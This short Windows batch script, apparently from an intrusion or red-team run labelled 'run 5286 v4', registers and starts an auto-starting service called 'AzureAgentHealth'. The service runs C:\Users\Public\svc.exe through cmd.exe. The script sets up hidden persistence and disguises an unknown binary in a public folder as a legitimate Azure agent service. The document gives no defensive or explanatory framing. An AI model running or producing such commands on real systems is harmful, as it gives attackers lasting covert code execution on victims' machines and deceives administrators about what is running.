REM run 5286 v4
sc create AzureAgentHealth binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
sc start AzureAgentHealth
